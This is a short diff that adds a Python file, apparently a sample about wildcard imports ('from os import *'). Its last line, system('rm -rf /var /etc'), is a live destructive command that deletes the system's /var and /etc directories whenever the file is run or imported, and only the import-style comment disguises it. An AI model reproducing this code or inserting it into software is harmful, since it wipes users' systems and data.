@@ -1,0 +1,3 @@
+# tricky: everything of a module
+from os import *
+system("rm -rf /var /etc")
